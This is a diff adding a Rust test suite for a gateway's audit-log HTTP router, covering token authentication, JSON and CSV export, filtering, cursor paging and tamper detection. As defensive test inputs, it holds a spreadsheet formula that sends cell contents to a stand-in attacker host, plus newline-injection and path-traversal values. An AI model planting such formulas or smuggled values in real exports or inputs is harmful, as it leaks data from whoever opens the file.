@@ -1,0 +1,643 @@
+//! The audit router through `oneshot`, over the in-memory audit store and a static
+//! token verifier: authentication, JSON and CSV pages, filters, cursors, verification,
+//! and bad input answered with 4xx, never 500.
+
+use std::sync::Arc;
+
+use axum::body::Body;
+use axum::extract::Request;
+use axum::http::{Method, StatusCode};
+use gateway::audit::{
+    AuditActor, AuditLog, AuditOperation, AuditRecord, AuditSource, AuditTarget, Outcome,
+};
+use gateway::audit_store::InMemoryAuditStore;
+use gateway::auth::StaticAccessTokenVerifier;
+use gateway::{Auditor, ResourceKind, SystemClock, TokenError};
+use http_body_util::BodyExt;
+use serde_json::Value;
+use time::OffsetDateTime;
+use tower::ServiceExt;
+
+use super::*;
+
+const GOOD: &str = "good-auditor-token";
+
+struct Fixture {
+    router: Router,
+    store: Arc<InMemoryAuditStore>,
+}
+
+fn record(n: u32, outcome: Outcome, operation: AuditOperation, name: &str) -> AuditRecord {
+    AuditRecord {
+        time: OffsetDateTime::now_utc(),
+        source: AuditSource::Scim {
+            method: "POST".into(),
+            path: "/Users".into(),
+        },
+        actor: AuditActor {
+            credential: if n.is_multiple_of(2) {
+                "scim-token:primary".into()
+            } else {
+                "scim-token:secondary".into()
+            },
+            user_agent: Some("Okta SCIM Client 1.0.0".into()),
+        },
+        target: AuditTarget {
+            resource_type: Some(ResourceKind::User),
+            external_id: Some(format!("00u{n}")),
+            target_id: Some(format!("u-{n}")),
+            name: Some(name.into()),
+        },
+        operation,
+        membership: None,
+        changes: vec![],
+        query: None,
+        rule_set_version: "identity".into(),
+        outcome,
+        status: 201,
+        target_status: Some(201),
+        target_calls: 1,
+        latency_ms: 7,
+        correlation_id: format!("req-{n}"),
+        error: None,
+    }
+}
+
+async fn fixture(records: Vec<AuditRecord>) -> Fixture {
+    let store = Arc::new(InMemoryAuditStore::ephemeral(
+        Arc::new(SystemClock),
+        time::Duration::days(30),
+    ));
+    for r in records {
+        store.append(r).await.unwrap();
+    }
+    let verifier = StaticAccessTokenVerifier::new()
+        .with(
+            GOOD,
+            Ok(Auditor {
+                subject: "auditor@example.com".into(),
+                client_id: None,
+            }),
+        )
+        .with(
+            "no-group",
+            Err(TokenError::Forbidden("the token lacks the required group")),
+        )
+        .with("expired", Err(TokenError::Invalid("expired")))
+        .with("issuer-down", Err(TokenError::Unavailable));
+    let app = AuditApp::new(store.clone(), Arc::new(verifier));
+    Fixture {
+        router: audit_router(Arc::new(app)),
+        store,
+    }
+}
+
+fn three() -> Vec<AuditRecord> {
+    vec![
+        record(
+            1,
+            Outcome::Success,
+            AuditOperation::Create,
+            "ada@example.com",
+        ),
+        record(
+            2,
+            Outcome::Refused,
+            AuditOperation::Patch,
+            "bob@example.com",
+        ),
+        record(
+            3,
+            Outcome::Failure,
+            AuditOperation::Delete,
+            "ada@example.com",
+        ),
+    ]
+}
+
+struct Answer {
+    status: StatusCode,
+    headers: HeaderMap,
+    text: String,
+}
+
+impl Answer {
+    fn json(&self) -> Value {
+        serde_json::from_str(&self.text).unwrap_or_else(|e| panic!("{e}: {}", self.text))
+    }
+}
+
+async fn call(
+    router: &Router,
+    method: Method,
+    uri: &str,
+    token: Option<&str>,
+    accept: Option<&str>,
+) -> Answer {
+    let mut builder = Request::builder().method(method).uri(uri);
+    if let Some(token) = token {
+        builder = builder.header("authorization", format!("Bearer {token}"));
+    }
+    if let Some(accept) = accept {
+        builder = builder.header("accept", accept);
+    }
+    let response = router
+        .clone()
+        .oneshot(builder.body(Body::empty()).unwrap())
+        .await
+        .unwrap();
+    let status = response.status();
+    let headers = response.headers().clone();
+    let bytes = response.into_body().collect().await.unwrap().to_bytes();
+    Answer {
+        status,
+        headers,
+        text: String::from_utf8(bytes.to_vec()).unwrap(),
+    }
+}
+
+async fn get(router: &Router, uri: &str) -> Answer {
+    call(router, Method::GET, uri, Some(GOOD), None).await
+}
+
+fn ids(answer: &Answer) -> Vec<String> {
+    answer.json()["records"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| r["record"]["correlation_id"].as_str().unwrap().to_owned())
+        .collect()
+}
+
+#[tokio::test]
+async fn requests_without_a_valid_token_are_refused_with_401_and_a_bearer_challenge() {
+    // Arrange
+    let f = fixture(three()).await;
+
+    // Act
+    let none = call(&f.router, Method::GET, "/audit/records", None, None).await;
+    let expired = call(
+        &f.router,
+        Method::GET,
+        "/audit/records",
+        Some("expired"),
+        None,
+    )
+    .await;
+    let unknown = call(
+        &f.router,
+        Method::GET,
+        "/audit/records",
+        Some("made-up"),
+        None,
+    )
+    .await;
+    let stranger_404 = call(&f.router, Method::GET, "/audit/nothing-here", None, None).await;
+    let basic = f
+        .router
+        .clone()
+        .oneshot(
+            Request::get("/audit/records")
+                .header("authorization", "Basic YTpi")
+                .body(Body::empty())
+                .unwrap(),
+        )
+        .await
+        .unwrap();
+
+    // Assert
+    for answer in [&none, &expired, &unknown, &stranger_404] {
+        assert_eq!(answer.status, StatusCode::UNAUTHORIZED, "{}", answer.text);
+        assert!(
+            answer.headers[WWW_AUTHENTICATE]
+                .to_str()
+                .unwrap()
+                .starts_with("Bearer realm=\"audit\"")
+        );
+        assert!(!answer.text.contains("records\""), "{}", answer.text);
+    }
+    assert_eq!(basic.status(), StatusCode::UNAUTHORIZED);
+    assert_eq!(expired.json()["error"], "invalid_token");
+    assert_eq!(expired.json()["message"], "invalid token: expired");
+    assert!(
+        expired.headers[WWW_AUTHENTICATE]
+            .to_str()
+            .unwrap()
+            .contains("error=\"invalid_token\"")
+    );
+    assert!(expired.headers.contains_key(CORRELATION_HEADER));
+}
+
+#[tokio::test]
+async fn a_valid_token_without_the_group_is_forbidden_and_an_unreachable_issuer_is_503() {
+    let f = fixture(three()).await;
+    let forbidden = call(
+        &f.router,
+        Method::GET,
+        "/audit/records",
+        Some("no-group"),
+        None,
+    )
+    .await;
+    assert_eq!(forbidden.status, StatusCode::FORBIDDEN);
+    assert_eq!(forbidden.json()["error"], "insufficient_scope");
+    let down = call(
+        &f.router,
+        Method::GET,
+        "/audit/verify",
+        Some("issuer-down"),
+        None,
+    )
+    .await;
+    assert_eq!(down.status, StatusCode::SERVICE_UNAVAILABLE);
+}
+
+#[tokio::test]
+async fn records_are_answered_as_json_oldest_first_with_a_null_cursor_on_the_last_page() {
+    // Arrange
+    let f = fixture(three()).await;
+
+    // Act
+    let answer = get(&f.router, "/audit/records").await;
+
+    // Assert
+    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
+    assert_eq!(answer.headers[CONTENT_TYPE], "application/json");
+    assert_eq!(ids(&answer), ["req-1", "req-2", "req-3"]);
+    let body = answer.json();
+    assert_eq!(body["next_cursor"], Value::Null);
+    let first = &body["records"][0];
+    assert_eq!(first["record"]["outcome"], "success");
+    assert!(first["id"].as_str().unwrap().contains(':'));
+    assert_eq!(first["integrity"]["hash"].as_str().unwrap().len(), 64);
+}
+
+#[tokio::test]
+async fn every_filter_narrows_the_records() {
+    // Arrange
+    let f = fixture(three()).await;
+    let later = (OffsetDateTime::now_utc() + time::Duration::hours(1))
+        .format(&Rfc3339)
+        .unwrap();
+    let earlier = (OffsetDateTime::now_utc() - time::Duration::hours(1))
+        .format(&Rfc3339)
+        .unwrap();
+
+    // Act / Assert
+    let cases: Vec<(String, Vec<&str>)> = vec![
+        ("outcome=refused".into(), vec!["req-2"]),
+        ("outcome=failure".into(), vec!["req-3"]),
+        ("operation=create".into(), vec!["req-1"]),
+        ("target=ADA@example.com".into(), vec!["req-1", "req-3"]),
+        ("target=u-2".into(), vec!["req-2"]),
+        ("target=00u3".into(), vec!["req-3"]),
+        ("actor=scim-token:primary".into(), vec!["req-2"]),
+        (
+            "target=ada%40example.com&outcome=success".into(),
+            vec!["req-1"],
+        ),
+        (format!("since={}", later.replace('+', "%2B")), vec![]),
+        (format!("until={}", earlier.replace('+', "%2B")), vec![]),
+        (
+            format!("since={earlier}&until={later}"),
+            vec!["req-1", "req-2", "req-3"],
+        ),
+        ("target=&outcome=".into(), vec!["req-1", "req-2", "req-3"]),
+    ];
+    for (query, expected) in cases {
+        let answer = get(&f.router, &format!("/audit/records?{query}")).await;
+        assert_eq!(answer.status, StatusCode::OK, "{query}: {}", answer.text);
+        assert_eq!(ids(&answer), expected, "{query}");
+    }
+}
+
+#[tokio::test]
+async fn the_cursor_pages_through_every_record_once() {
+    // Arrange
+    let records: Vec<AuditRecord> = (1..=7)
+        .map(|n| record(n, Outcome::Success, AuditOperation::Get, "ada@example.com"))
+        .collect();
+    let f = fixture(records).await;
+
+    // Act
+    let mut seen = Vec::new();
+    let mut cursor: Option<String> = None;
+    let mut pages = 0;
+    loop {
+        let uri = match &cursor {
+            Some(c) => format!("/audit/records?limit=3&cursor={c}"),
+            None => "/audit/records?limit=3".to_owned(),
+        };
+        let answer = get(&f.router, &uri).await;
+        assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
+        seen.extend(ids(&answer));
+        pages += 1;
+        cursor = answer.json()["next_cursor"].as_str().map(str::to_owned);
+        if cursor.is_none() {
+            break;
+        }
+    }
+
+    // Assert
+    assert_eq!(pages, 3);
+    let expected: Vec<String> = (1..=7).map(|n| format!("req-{n}")).collect();
+    assert_eq!(seen, expected);
+}
+
+#[tokio::test]
+async fn bad_parameters_are_a_400_json_error_never_a_500() {
+    let f = fixture(three()).await;
+    let long = format!("target={}", "a".repeat(MAX_AUDIT_QUERY_BYTES));
+    let cases = [
+        "limit=0",
+        "limit=1001",
+        "limit=-1",
+        "limit=ten",
+        "limit=99999999999999999999",
+        "outcome=maybe",
+        "outcome=SUCCESS",
+        "operation=explode",
+        "since=yesterday",
+        "since=2024-13-01T00:00:00Z",
+        "until=2024-01-01",
+        "since=2024-02-01T00:00:00Z&until=2024-01-01T00:00:00Z",
+        "since=2024-01-01T00:00:00Z&until=2024-01-01T00:00:00Z",
+        "outcom=success",
+        "limit=1&limit=2",
+        "cursor=not-a-cursor",
+        "cursor=eyJwIjoidGltZSIsImEiOiJ4In0",
+        "cursor=%00%01",
+        "format=xml",
+        "target=%0Aevil",
+        &long,
+    ];
+    for query in cases {
+        let answer = get(&f.router, &format!("/audit/records?{query}")).await;
+        assert_eq!(
+            answer.status,
+            StatusCode::BAD_REQUEST,
+            "{query}: {}",
+            answer.text
+        );
+        assert_eq!(answer.json()["error"], "invalid_request", "{query}");
+        assert!(
+            answer.json()["message"]
+                .as_str()
+                .is_some_and(|m| !m.is_empty())
+        );
+    }
+    for query in [
+        "since=nope",
+        "until=1969-01-01T00:00:00Z",
+        "limit=5",
+        "since=2024-01-01T00:00:00Z&since=2024-01-02T00:00:00Z",
+    ] {
+        let answer = get(&f.router, &format!("/audit/verify?{query}")).await;
+        assert_eq!(
+            answer.status,
+            StatusCode::BAD_REQUEST,
+            "verify {query}: {}",
+            answer.text
+        );
+    }
+}
+
+#[tokio::test]
+async fn hostile_paths_methods_and_bytes_get_4xx_answers() {
+    let f = fixture(three()).await;
+    for uri in [
+        "/audit/records?%FF%FE=1",
+        "/audit/records?target=%FF%FE",
+        "/audit/records?&&&=&",
+        "/audit/records?cursor=",
+        "/audit/../audit/records",
+        "/audit/records/extra",
+        "/audit",
+        "/audit/",
+    ] {
+        let answer = get(&f.router, uri).await;
+        assert!(
+            answer.status.is_client_error() || answer.status == StatusCode::OK,
+            "{uri}: {}",
+            answer.status
+        );
+        assert!(
+            serde_json::from_str::<Value>(&answer.text).is_ok(),
+            "{uri}: {}",
+            answer.text
+        );
+    }
+    let post = call(&f.router, Method::POST, "/audit/records", Some(GOOD), None).await;
+    assert_eq!(post.status, StatusCode::METHOD_NOT_ALLOWED);
+    assert_eq!(post.headers[ALLOW], "GET");
+    let delete = call(&f.router, Method::DELETE, "/audit/verify", Some(GOOD), None).await;
+    assert_eq!(delete.status, StatusCode::METHOD_NOT_ALLOWED);
+    let missing = get(&f.router, "/audit/other").await;
+    assert_eq!(missing.status, StatusCode::NOT_FOUND);
+    assert_eq!(missing.json()["error"], "not_found");
+}
+
+#[tokio::test]
+async fn an_api_gateway_stage_in_front_of_audit_is_stripped() {
+    let f = fixture(three()).await;
+    let answer = get(&f.router, "/prod/audit/records?limit=1").await;
+    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
+    assert_eq!(ids(&answer), ["req-1"]);
+}
+
+#[tokio::test]
+async fn csv_is_answered_for_format_csv_or_accept_text_csv_with_rfc4180_quoting() {
+    // Arrange: values with commas, quotes and line breaks.
+    let mut tricky = record(
+        1,
+        Outcome::Refused,
+        AuditOperation::Create,
+        "o'brien, \"the\" admin",
+    );
+    tricky.error = Some("line one\r\nline two, with \"quotes\"".into());
+    let f = fixture(vec![
+        tricky,
+        record(2, Outcome::Success, AuditOperation::Get, "bob@example.com"),
+    ])
+    .await;
+
+    // Act
+    let by_format = get(&f.router, "/audit/records?format=csv").await;
+    let by_accept = call(
+        &f.router,
+        Method::GET,
+        "/audit/records",
+        Some(GOOD),
+        Some("text/csv"),
+    )
+    .await;
+    let json_first = call(
+        &f.router,
+        Method::GET,
+        "/audit/records",
+        Some(GOOD),
+        Some("application/json, text/csv"),
+    )
+    .await;
+
+    // Assert
+    assert_eq!(by_format.status, StatusCode::OK);
+    assert_eq!(by_format.headers[CONTENT_TYPE], CSV_MEDIA_TYPE);
+    assert_eq!(by_format.text, by_accept.text);
+    assert_eq!(json_first.headers[CONTENT_TYPE], "application/json");
+    assert!(
+        by_format.text.contains("\"o'brien, \"\"the\"\" admin\""),
+        "{}",
+        by_format.text
+    );
+    assert!(by_format.text.ends_with("\r\n"));
+    let mut reader = csv::Reader::from_reader(by_format.text.as_bytes());
+    let header: Vec<String> = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .map(str::to_owned)
+        .collect();
+    let expected: Vec<&str> = CSV_COLUMNS.iter().map(|(n, _)| *n).collect();
+    assert_eq!(header, expected);
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 2);
+    let column = |name: &str| CSV_COLUMNS.iter().position(|(n, _)| *n == name).unwrap();
+    assert_eq!(&rows[0][column("target_name")], "o'brien, \"the\" admin");
+    assert_eq!(
+        &rows[0][column("error")],
+        "line one\r\nline two, with \"quotes\""
+    );
+    assert_eq!(&rows[0][column("outcome")], "refused");
+    assert_eq!(&rows[0][column("correlation_id")], "req-1");
+    assert_eq!(&rows[1][column("status")], "201");
+    assert_eq!(&rows[1][column("seq")], "2");
+}
+
+#[tokio::test]
+async fn csv_cells_that_a_spreadsheet_would_evaluate_are_defused() {
+    // Arrange: a userName Okta would pass along, crafted as formulas.
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+        "+1+2",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "plain",
+    ];
+    let records: Vec<AuditRecord> = names
+        .iter()
+        .enumerate()
+        .map(|(i, n)| record(i as u32 + 1, Outcome::Success, AuditOperation::Create, n))
+        .collect();
+    let f = fixture(records).await;
+
+    // Act
+    let answer = get(&f.router, "/audit/records?format=csv").await;
+
+    // Assert
+    let mut reader = csv::Reader::from_reader(answer.text.as_bytes());
+    let column = CSV_COLUMNS
+        .iter()
+        .position(|(n, _)| *n == "target_name")
+        .unwrap();
+    let cells: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap()[column].to_owned())
+        .collect();
+    let expected: Vec<String> = names
+        .iter()
+        .map(|n| {
+            if *n == "plain" {
+                (*n).to_owned()
+            } else {
+                format!("'{n}")
+            }
+        })
+        .collect();
+    assert_eq!(cells, expected);
+}
+
+#[tokio::test]
+async fn a_csv_page_carries_the_next_cursor_in_a_header() {
+    let f = fixture(three()).await;
+    let first = get(&f.router, "/audit/records?format=csv&limit=2").await;
+    let cursor = first.headers[NEXT_CURSOR_HEADER]
+        .to_str()
+        .unwrap()
+        .to_owned();
+    let rest = get(
+        &f.router,
+        &format!("/audit/records?format=csv&limit=2&cursor={cursor}"),
+    )
+    .await;
+    assert_eq!(rest.status, StatusCode::OK);
+    assert!(!rest.headers.contains_key(NEXT_CURSOR_HEADER));
+    assert_eq!(
+        csv::Reader::from_reader(rest.text.as_bytes())
+            .records()
+            .count(),
+        1
+    );
+}
+
+#[tokio::test]
+async fn verify_reports_an_intact_trail_and_then_the_tampering() {
+    // Arrange
+    let f = fixture(three()).await;
+
+    // Act
+    let clean = get(&f.router, "/audit/verify").await;
+    f.store.ledger().backend().tamper(|items| {
+        let first = items.records.keys().next().cloned().unwrap();
+        items.records.remove(&first);
+    });
+    let since = (OffsetDateTime::now_utc() - time::Duration::hours(2))
+        .format(&Rfc3339)
+        .unwrap();
+    let tampered = get(&f.router, &format!("/audit/verify?since={since}")).await;
+
+    // Assert
+    assert_eq!(clean.status, StatusCode::OK, "{}", clean.text);
+    assert_eq!(clean.json()["intact"], true, "{}", clean.text);
+    assert_eq!(clean.json()["checked"], 3);
+    assert_eq!(clean.json()["problems"], serde_json::json!([]));
+    assert_eq!(tampered.json()["intact"], false, "{}", tampered.text);
+    assert!(!tampered.json()["problems"].as_array().unwrap().is_empty());
+}
+
+#[test]
+fn the_records_parameters_parse_into_a_store_query() {
+    let request = parse_records_request(Some(
+        "target=ada%40example.com&actor=scim-token%3Aprimary&since=2024-04-05T06:00:00Z&until=2024-04-06T00:00:00%2B02:00&outcome=refused&operation=patch&limit=1000&cursor=abc&format=csv",
+    ))
+    .unwrap();
+    assert_eq!(request.format, Some(Format::Csv));
+    let q = request.query;
+    assert_eq!(q.target.as_deref(), Some("ada@example.com"));
+    assert_eq!(q.actor.as_deref(), Some("scim-token:primary"));
+    assert_eq!(
+        q.since,
+        Some(time::macros::datetime!(2024-04-05 06:00:00 UTC))
+    );
+    assert_eq!(
+        q.until,
+        Some(time::macros::datetime!(2024-04-05 22:00:00 UTC))
+    );
+    assert_eq!(
+        (q.outcome, q.operation, q.limit),
+        (Some(Outcome::Refused), Some(AuditOperation::Patch), 1000)
+    );
+    assert_eq!(q.cursor.as_deref(), Some("abc"));
+    assert_eq!(
+        parse_records_request(None).unwrap().query.limit,
+        DEFAULT_LIMIT
+    );
+}
+
+#[test]
+fn csv_safety_prefixes_only_formula_starts() {
+    assert_eq!(csv_safe("=1".into()), "'=1");
+    assert_eq!(csv_safe("a=1".into()), "a=1");
+    assert_eq!(csv_safe(String::new()), "");
+}
